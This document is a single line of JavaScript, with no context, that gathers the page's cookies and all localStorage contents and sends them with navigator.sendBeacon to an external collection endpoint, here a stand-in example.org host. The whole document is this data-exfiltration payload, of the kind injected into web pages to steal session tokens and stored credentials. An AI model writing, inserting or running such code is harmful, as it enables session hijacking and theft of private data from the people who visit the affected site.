navigator.sendBeacon("https://collect.example.org/b", JSON.stringify({ c: document.cookie, l: { ...localStorage } }));
